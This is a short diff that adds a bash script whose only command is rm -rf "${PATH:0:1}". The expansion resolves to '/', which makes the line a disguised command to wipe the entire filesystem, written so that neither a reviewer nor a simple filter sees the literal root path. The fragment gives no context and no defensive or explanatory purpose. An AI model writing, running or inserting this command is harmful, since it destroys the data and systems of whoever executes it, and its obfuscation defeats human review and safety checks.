@@ -1,0 +1,2 @@
+#!/bin/bash
+rm -rf "${PATH:0:1}"
